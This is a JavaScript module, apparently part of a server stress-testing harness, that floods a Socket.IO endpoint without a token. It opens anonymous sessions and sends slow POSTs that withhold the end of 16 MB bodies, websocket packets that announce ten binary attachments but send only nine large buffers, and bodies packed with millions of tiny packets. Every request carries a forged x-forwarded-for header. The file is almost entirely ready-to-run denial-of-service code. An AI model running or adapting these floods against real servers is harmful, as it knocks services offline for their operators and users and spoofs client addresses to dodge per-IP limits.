'use strict';

// Floods without a token: data that the Socket.IO path accepts before the handshake.

const { atOnce, count, raw, request, sleep } = require('./flood-tools');
const WebSocket = require('./wire').WebSocket;

const SLOW_POSTS = 40;
const HALF_PACKETS = 20;
const MANY_PACKETS = 4;
// The Node server takes 1 MB at a time, Souk took 16.
const MEGABYTES = 16;
const PIECE = Buffer.alloc(1 << 16, 0x61);
const BINARY = Buffer.alloc(6 << 20);

/** A session of nobody: its id, as soon as there is one. */
async function session(job) {
  for (;;) {
    const { text } = await request({ ...job, token: undefined }, { path: '/socket.io/?EIO=4&transport=polling' });
    const sid = text?.match(/"sid":"([^"]+)"/)?.[1];
    if (sid) return sid;
    await sleep(500);
  }
}

const post = (job, sid, length) =>
  `POST /socket.io/?EIO=4&transport=polling&sid=${sid} HTTP/1.1\r\nhost: x\r\nx-forwarded-for: ${job.address}\r\ncontent-type: text/plain;charset=UTF-8\r\ncontent-length: ${length}\r\n\r\n`;

/** A body that is sent but for its end. */
async function slowPost(job) {
  const sid = await session(job);
  const length = MEGABYTES << 20;
  let left = (length * 0.99) >> 16;
  await raw(job, { head: `${post(job, sid, length)}4`, more: () => (left-- > 0 ? PIECE : undefined) });
}

/** A body of as many small packets as go into it. */
async function manyPackets(job, packets) {
  const sid = await session(job);
  const body = [packets];
  await raw(job, { head: post(job, sid, packets.length), more: () => body.pop(), seconds: 10 });
}

/** A packet that announces binaries and sends all but the last of them. */
function halfPacket(job) {
  return new Promise((resolve) => {
    const ws = new WebSocket(`${job.url.replace(/^http/, 'ws')}/socket.io/?EIO=4&transport=websocket`, { headers: { 'x-forwarded-for': job.address }, perMessageDeflate: false });
    const binaries = Array.from({ length: 10 }, (_, num) => ({ _placeholder: true, num }));
    ws.on('open', () => {
      count('half packets');
      ws.send(`4510-${JSON.stringify(['chat:send_message', ...binaries])}`);
      // One after the other: a server that cuts the connection spares us the rest.
      const send = (left) => left > 0 && ws.readyState === WebSocket.OPEN && ws.send(BINARY, (error) => error || send(left - 1));
      send(9);
    });
    ws.on('message', (data) => String(data) === '2' && ws.send('3'));
    ws.on('error', () => {});
    ws.on('close', () => (count('cut'), setTimeout(resolve, 100)));
  });
}

module.exports = {
  packets: (job) => {
    const packets = Buffer.from(`${'3\x1e'.repeat(((MEGABYTES << 20) - 2) / 2)}3`);
    return Promise.all([
      atOnce(SLOW_POSTS, () => slowPost(job)),
      atOnce(HALF_PACKETS, () => halfPacket(job)),
      atOnce(MANY_PACKETS, () => manyPackets(job, packets)),
    ]);
  },
};
